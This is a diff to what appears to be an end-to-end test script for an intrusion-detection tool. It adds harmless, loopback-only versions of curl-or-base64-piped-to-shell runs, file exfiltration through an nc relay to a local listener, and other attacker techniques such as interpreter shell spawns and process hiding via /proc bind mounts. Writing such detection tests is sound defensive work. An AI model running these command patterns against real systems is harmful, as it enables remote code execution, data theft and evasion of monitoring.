@@ -27,6 +27,24 @@ run sh -c "curl -fsS --max-time 2 http://127.0.0.1:9/e2e-$t.sh | sh"
 run sh -c "wget -q -T 2 -O- http://127.0.0.1:9/e2e-$t.sh | bash"
 run sh -c ": e2e-$t; echo dHJ1ZQo= | base64 -d | sh"
 
+say "the same typed at a prompt: the two ends are siblings under one shell (a script file, so no"
+say "command line shows the pipe), seen through the pipe between them"
+# The payload is padded past a pipe's 64 KiB buffer so the writer is still
+# alive (blocked on the full pipe) when the shell execs: the peer fields need
+# both ends live, and a tiny file can be written and closed before the shell's
+# exec is seen (docs/detections.md, "not covered").
+{ printf 'echo e2e-%s\n' "$t"; i=0; while [ $i -lt 1200 ]; do
+    echo "# padding line $i ................................................"; i=$((i + 1)); done; } > "payload-$t.sh"
+base64 "payload-$t.sh" > "payload-$t.b64"
+printf 'curl -fsS --max-time 2 file://%s/payload-%s.sh | bash\n' "$d" "$t" > "prompt-dl-$t.sh"
+printf 'base64 -d %s/payload-%s.b64 | sh\n' "$d" "$t" > "prompt-b64-$t.sh"
+# benign pipelines that must stay quiet: a local file paged, a download filtered
+printf 'cat %s/payload-%s.sh | tail -n1\ncurl -fsS --max-time 2 file://%s/payload-%s.sh | grep -c e2e\n' \
+  "$d" "$t" "$d" "$t" > "prompt-benign-$t.sh"
+run bash "$d/prompt-dl-$t.sh"
+run bash "$d/prompt-b64-$t.sh"
+run bash "$d/prompt-benign-$t.sh"
+
 say "interactive shells from interpreters"
 run "$py" -c "import os; os.execv('/bin/sh', ['sh'])  # e2e-$t"
 run perl -e "exec '/bin/sh'; # e2e-$t"
@@ -189,6 +207,38 @@ wget -q -T 3 -t 1 -O /dev/null --post-file=$d/exfil-$t.txt http://192.0.2.10:808
 wait \$l
 EOF
 run unshare -n sh exfil.sh
+
+say "exfiltration over a network relay (T1048.003): nc < FILE and cat FILE | nc to a listener on"
+say "loopback in a private netns (nc is busybox's applet under the name nc: comm is nc)"
+cp /bin/busybox "$d/nc"
+cat > relay-listener.py <<'EOF'
+import socket
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", 4445))
+s.listen(4)
+s.settimeout(15)
+open("ready-relay", "w").close()
+for _ in range(2):
+    c, _ = s.accept()
+    c.settimeout(5)
+    try:
+        while c.recv(4096):
+            pass
+    except OSError:
+        pass
+    c.close()
+EOF
+printf 'cat %s/exfil-%s.txt | %s/nc -w 3 127.0.0.1 4445\n' "$d" "$t" "$d" > "relay-pipe-$t.sh"
+cat > relay.sh <<EOF
+ip link set lo up
+$py relay-listener.py & l=\$!
+while [ ! -e ready-relay ]; do sleep 0.05; done
+$d/nc -w 3 127.0.0.1 4445 < $d/exfil-$t.txt
+sh $d/relay-pipe-$t.sh
+wait \$l
+EOF
+run unshare -n sh relay.sh
 
 say "process hidden by a bind mount over /proc/<pid> (private mount namespace)"
 mkdir -p "hide-$t"
